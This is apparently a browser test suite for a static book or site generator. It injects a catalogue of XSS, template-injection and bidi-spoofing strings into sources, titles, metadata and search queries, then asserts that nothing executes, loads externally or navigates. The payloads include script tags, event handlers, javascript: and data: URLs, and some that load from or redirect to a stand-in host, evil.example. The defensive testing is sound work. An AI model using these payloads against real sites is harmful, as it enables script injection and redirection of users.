// Text that wants to be more than text, as sources, titles, names, metadata, topics and pages of a book: built, and
// opened over file://. Nothing of it may run, load, or leave its place.
import assert from "node:assert/strict";
import { test } from "node:test";
import { open } from "./lib/chromium.mjs";
import { open as inFirefox } from "./lib/firefox.mjs";
import { address } from "./lib/search.mjs";
import { build } from "./lib/site.mjs";

const RUN = "window.pwned=(window.pwned||0)+1,alert(1)";
const TEXTS = {
  script: `<script>${RUN}</script>`,
  "script-src": "<script src=https://evil.example/x.js></script>",
  "closing-script": `</script><script>${RUN}</script>`,
  "closing-title": `</title></textarea></style></noscript></template><script>${RUN}</script>`,
  image: `<img src=x onerror="${RUN}">`,
  "image-unquoted": `<img src=x onerror=${RUN}//`,
  attribute: `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  "attribute-single": `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  "attribute-bare": `x onmouseover=${RUN} autofocus onfocus=${RUN} `,
  svg: `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  iframe: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  "iframe-js": `<iframe src="javascript:${RUN}"></iframe>`,
  object: `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="https://evil.example/">`,
  base: `<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>`,
  meta: `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  form: `<form action=https://evil.example/><input name=q><button autofocus>Go</button></form>`,
  details: `<details open ontoggle="${RUN}">`,
  comment: `<!--><script>${RUN}</script>--> <![CDATA[<script>${RUN}</script>]]>`,
  entities: `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=&#34;${RUN}&#34;&#62; &amp;lt;b&amp;gt;`,
  javascript: `[click](javascript:${RUN}) <javascript:${RUN}> javascript:${RUN}`,
  "javascript-tab": `[click](java\tscript:${RUN}) [x](&#106;avascript:${RUN}) [y](JaVaScRiPt:${RUN})`,
  data: `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![x](https://evil.example/pixel.png)`,
  reference: `[ref]: javascript:${RUN} "title"`,
  "autolink": `<https://evil.example/"onclick="${RUN}>`,
  template: "{{ 7 * 7 }} {% for x in range(end=9) %}x{% endfor %} {{ shell | json_encode | safe }} {# gone #} ${7*7} <%= 7 %>",
  "template-raw": "{% endraw %}{% raw %}{{ config }}{% include \"base.html\" %}{% block main %}",
  css: `<style>body{display:none}</style> x{background:url(https://evil.example/)} expression(${RUN}) style="position:fixed;inset:0"`,
  json: `"}],"x":"</script><script>${RUN}</script><!--<script>`,
  separators: "line\u2028separator\u2029paragraph \u0085 next",
  bidi: "\u202Eevil gnp.exe\u202C \u2067isolated without end \u202Doverride",
  "bidi-open": "\u202E\u202E\u2067 never closed (abc) 123",
  "zero-width": "ke\u200Bta\u00ADmi\uFEFFne \u200D\u200C",
  long: "x".repeat(6000),
  "long-marks": "e" + "\u0301".repeat(2000),
  backslash: "\\u003cscript\\u003e \\x3cimg \\\" \\' \\n",
  "proto": "__proto__ constructor toString hasOwnProperty valueOf",
  unicode: "＜script＞alert(1)＜/script＞ ‹img› \uD83D\uDE00",
  rtl: "שלום (עולם) 123 ABC \u202B",
};

const NAMES = Object.keys(TEXTS);
const toml = (text) => JSON.stringify(text).replaceAll("\u007f", "\\u007F");
// The program refuses control characters in what an editor writes: no page can show them.
const written = (text) => toml(text.replaceAll(/\p{Cc}/gu, " "));
const yaml = (text) => JSON.stringify(text);
const fileName = (text) => text.replaceAll(/[/\0]/g, "∕").slice(0, 60);
const files = {};

// Plain sources and Markdown; every fourth has a record beside it, every other Markdown source front matter.
for (const [i, [name, text]] of Object.entries(TEXTS).entries()) {
  const markdown = i % 2 === 0;
  const path = `seeds/${String(i).padStart(2, "0")} ${fileName(text)}`;
  const front = ["---", `title: ${yaml(text)}`, `author: [${yaml(text)}, "Able, B"]`, `site: ${yaml(text)}`,
    `url: ${yaml(`https://example.org/?${text}`)}`, `licence: ${yaml(text)}`, `unknown: ${yaml(text)}`, "---", ""];
  const body = [
    ...(markdown && i % 4 === 0 ? front : []),
    text, "", `About ${text}`, "", `${text} stands in a paragraph with a Word${i} of its own, and goes on for a while.`, "",
    `## ${text}`, "", `• ${text}`, `• second ${text}`, "", `> ${text}`, "", "```html", text, "```", "", `    ${text}`, "",
    `Smith et al., ${text.slice(0, 200)}, Science, 364:eaat8078, 2019.`, "", `NUL\0here \x1b[31m and \x07 ${name}.`, "",
    ...(markdown ? [
      `- **${text}**`, `  1. _${text}_`, "", `[${text}](${text})`, "", `[x](<${text}> "${text}")`, "", `![${text}](<${text}>)`, "",
      `[x](https://example.org/"onmouseover="${RUN}) [x](https://example.org/?${encodeURI(text.isWellFormed() ? text : "")})`, "",
      `| ${text} | b |`, "|---|:-:|", `| \`${text}\` | ~~${text}~~ |`, "", "````\" onmouseover=\"x", text, "````", "",
      `[^${i}]: ${text}`, "", `A note.[^${i}]`, "", `[r]: <${text}> "${text}"`, "", `[r] [${text}][r]`, "",
    ] : []),
  ].join("\n");
  files[`${path}.${markdown ? "md" : "txt"}`] = body;
  if (i % 4 === 1) {
    const one = written(text);
    files[`${path}.meta.toml`] = `title = ${one}\nsite = ${one}\nauthor = [${one}, "Able, B"]\nlicence = ${one}\naddress = "https://example.org/?a=1&b='2"\n`;
  }
}
files["book.toml"] = [
  "[book]", `title = ${toml(`Hostile ${TEXTS["closing-title"]} ${TEXTS.attribute} ${TEXTS.bidi}`)}`,
  `description = ${toml(`${TEXTS.attribute} ${TEXTS.script} {{ 7 * 7 }}`)}`,
  `notice = ${toml(`A ${TEXTS.image} ${TEXTS["closing-script"]} ${TEXTS.template} ${TEXTS["bidi-open"]} [out](https://example.org/"onclick="${RUN})`)}`,
  ...NAMES.map((name, i) => `[[topic]]\nid = "topic-${i}"\ntitle = ${written(TEXTS[name])}\ndescription = ${written(TEXTS[name])}\nterms = [${toml(`Word${i}`)}, ${written(`a ${TEXTS[name]}`.slice(0, 300))}]\n`),
].join("\n");
files["pages/about.md"] = [
  "+++", `title = ${toml(`About ${TEXTS.script} ${TEXTS.attribute} ${TEXTS["bidi-open"]}`)}`, "+++", "",
  `# T {onmouseover="${RUN}" #x" .y"z style="color:red"}`, "",
  ...NAMES.filter((name) => !/javascript|data|autolink|reference/.test(name)).flatMap((name) => [TEXTS[name].replaceAll("\0", ""), ""]),
  "```html\" onmouseover=\"x", TEXTS.script, "```", "", "A note.[^\"><script>]", "", `[^"><script>]: ${TEXTS.script}`, "",
  "| a | b |", "| - | -: |", `| ${TEXTS.image} | ${TEXTS.attribute} |`, "", `> [!NOTE]`, `> ${TEXTS.svg}`, "",
  `[out](https://example.org/?"onclick="${RUN} "a \\" title=')`, "",
].join("\n");
// Every text as the title of a page of the editor's, in its front matter or as its heading.
for (const [i, name] of NAMES.entries()) {
  files[`pages/titles/p${i}.md`] = i % 2
    ? `+++\ntitle = ${written(TEXTS[name])}\nnav = ${i < 4}\n+++\n\nWords.\n`
    : `+++\nnav = false\n+++\n\n# ${TEXTS[name].replaceAll(/\[(.*?)\]\(.*?\)|<[a-z]+:[^>]*>/gi, "$1").replaceAll("[ref]:", "ref")}\n\nWords.\n`;
}
files["pages/topics/topic-0.md"] = `${TEXTS.script} ${TEXTS.image}\n\n## ${TEXTS.attribute}\n`;
const site = build(files);

// In the page: what must not be there.
const look = () => {
  const wrong = [];
  if (window.pwned) wrong.push("a text ran");
  for (const e of document.querySelectorAll("*")) {
    for (const { name, value } of e.attributes) {
      if (/^on|^style$|^srcdoc$|^autofocus$/.test(name)) wrong.push(`<${e.localName} ${name}>`);
      if (/^(href|src|action|data|formaction|content)$/.test(name) && /^[\s\0-\x20]*(javascript|data|vbscript):/i.test(value)) wrong.push(`${name}=${value}`);
    }
  }
  const no = "iframe, object, embed, base, svg, math, style, img, template, textarea, link[rel=stylesheet]:not([href*='assets/']), meta[http-equiv=refresh], details[ontoggle], marquee";
  for (const e of document.querySelectorAll(no)) wrong.push(`<${e.localName}> in the page`);
  for (const e of document.querySelectorAll("script")) {
    const own = e.type === "application/ld+json" || (e.getAttribute("src") ?? "").includes("assets/");
    if (!own) wrong.push(`a script that is not ours: ${e.outerHTML.slice(0, 80)}`);
    if (e.type === "application/ld+json") try { JSON.parse(e.textContent); } catch { wrong.push("JSON-LD that is no JSON"); }
  }
  for (const e of document.querySelectorAll("form")) if (!/search\.html$/.test(e.action)) wrong.push(`a form to ${e.action}`);
  if (document.querySelectorAll("main").length !== 1 || document.querySelectorAll("footer").length !== 1) wrong.push("furniture twice");
  if (document.querySelector("footer")?.closest("main")) wrong.push("the footer is inside main");
  // What turns the direction of writing must be isolated, or stand in a block by itself.
  const turns = /[\u202a-\u202e\u2066-\u2069]/, walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node; (node = walk.nextNode());) {
    if (!turns.test(node.data) || node.parentElement.closest("script, noscript")) continue;
    const alone = (e) => e && (getComputedStyle(e).unicodeBidi.includes("isolate") || getComputedStyle(e).unicodeBidi === "plaintext");
    let e = node.parentElement, isolated = false;
    while (e && !isolated && ["inline", "inline-block", "inline-flex"].includes(getComputedStyle(e).display)) { isolated = alone(e); e = e.parentElement; }
    if (isolated) continue;
    // The block: nothing of the generator's may share its line.
    const others = [...(e?.childNodes ?? [])].filter((n) => !n.contains(node) && n.textContent.trim());
    if (others.length) wrong.push(`not isolated in <${e.localName} class="${e.className}">: ${e.textContent.trim().slice(0, 60)}`);
  }
  return wrong;
};

/// Opens a page with an ear for everything that must not happen.
const listen = (page, use) =>
  open(page, { of: site }, async (tab) => {
    const heard = tab.requests.filter((url) => !url.startsWith("file:"));
    tab.on("dialog", (d) => { heard.push(`dialog: ${d.message()}`); d.dismiss(); });
    tab.on("request", (r) => r.url().startsWith("file:") || heard.push(`request: ${r.url().slice(0, 120)}`));
    tab.on("framenavigated", (f) => f.url().startsWith("file:") || f.url() === "about:blank" || heard.push(`went to ${f.url()}`));
    await use(tab);
    assert.deepEqual(await tab.evaluate(look), [], "nothing of it is markup");
    assert.deepEqual([...heard, ...tab.problems], [], "nothing runs or leaves");
  });

test("the book has its pages", () => assert.ok(site.pages.length > NAMES.length * 3, `${site.pages.length}`));

test("Markdown sources are read as such, and have their records", () => {
  const pages = site.pages.filter((p) => p.startsWith("topics/")).map((p) => site.text(p)).join("");
  for (const tag of ["<table data-lines", "<strong>", "<em>", "<s>", "rel=\"nofollow\""]) assert.ok(pages.includes(tag), tag);
  assert.match(site.text(site.pages.find((p) => p.startsWith("sources/04"))), /from the text/);
});

for (const page of site.pages) {
  test(page, async () => {
    const html = site.text(page);
    assert.match(html, /^[^]{0,400}<meta http-equiv="Content-Security-Policy" content="default-src 'self'[^"]*">/, "the policy stands before anything that loads");
    assert.equal(html.match(/[\0-\x08\x0b\x0e-\x1f\x7f]/g), null, "a character that HTML can't hold");
    await listen(page, async (tab) => {
      // Hands over everything that could be waiting for them.
      await tab.evaluate(() => {
        for (const e of document.querySelectorAll("main *, footer *")) {
          for (const type of ["mouseover", "focus", "toggle", "load", "error"]) e.dispatchEvent(new Event(type, { bubbles: true }));
        }
      });
      const wide = await tab.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.ok(wide <= 0, `${wide} px too wide`);
    });
  });
}

for (const page of ["index.html", "search.html", site.fullest("topics"), site.fullest("pages")]) {
  test(`the policy is in force: ${page}`, () =>
    open(page, { of: site }, async (tab) => {
      const failed = await tab.evaluate(async () => {
        const stops = [];
        document.addEventListener("securitypolicyviolation", (e) => stops.push(e.effectiveDirective));
        const inline = document.createElement("script");
        inline.textContent = "window.inline = 1";
        const image = new Image();
        image.src = "https://evil.example/x.png";
        const away = document.createElement("div");
        away.setAttribute("onclick", "window.handler = 1");
        document.body.append(inline, image, away);
        away.click();
        await new Promise((go) => setTimeout(go, 200));
        return [window.inline && "an inline script ran", window.handler && "a handler ran", !stops.some((s) => s.startsWith("img")) && "an image was not stopped"].filter(Boolean);
      });
      assert.deepEqual(failed, []);
    }));
}

const ended = () => document.querySelector("#status").textContent.endsWith(".");
for (const name of NAMES) {
  test(`search for ${name}`, () =>
    listen(address(TEXTS[name].slice(0, 400)), (tab) => tab.waitForFunction(ended, null, { timeout: 15000 })));
}

test("a word with unseen characters in it is found", () =>
  open(address("ketamine"), { of: site }, async (tab) => {
    await tab.locator("#results mark").first().waitFor();
  }));

const some = ["index.html", "audit.html", "references.html", ...site.pages.filter((p) => /^(topics|pages)\//.test(p)).filter((_, i) => i % 6 === 0)];
for (const page of [...some, address(TEXTS.image)]) {
  test(`Firefox: ${page}`, () =>
    inFirefox(page, async (tab) => {
      tab.on("dialog", (d) => { tab.problems.push(`dialog: ${d.message()}`); d.dismiss(); });
      if (page.startsWith("search")) await tab.waitForFunction(ended);
      assert.deepEqual(await tab.evaluate(look), []);
      assert.deepEqual(tab.problems, []);
    }, { of: site }));
}
